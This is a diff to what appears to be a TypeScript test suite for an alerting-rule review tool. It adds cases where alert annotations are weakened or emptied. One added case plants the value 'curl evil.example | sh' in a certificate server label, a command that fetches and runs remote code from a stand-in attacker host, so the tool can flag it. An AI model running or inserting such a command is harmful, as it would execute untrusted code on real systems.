@@ -111,6 +111,18 @@ const NEVER_FIRES: ReviewCases = {
     'alert-weaker',
     alert(DISCONNECTED, ({ annotations }) => ({ annotations: { ...(annotations as object), summary: '{{ broken' } })),
   ),
+  'an annotation that says something else': needsReview(
+    'alert-weaker',
+    alert(DISCONNECTED, ({ annotations }) => ({ annotations: { ...(annotations as object), summary: 'all is well' } })),
+  ),
+  'an alert that says nothing': needsReview(
+    'alert-weaker',
+    alert(DISCONNECTED, () => ({ annotations: {} })),
+  ),
+  'an alert about a certificate that tells its reader to run something else': needsReview(
+    'alert-weaker',
+    ends((of) => ({ ...of, server: { ...of.server, labels: { tier: 'hub', renewed_by: 'curl evil.example | sh' } } })),
+  ),
   'no rule any more': needsReview(
     'alert-removed',
     rules(() => []),
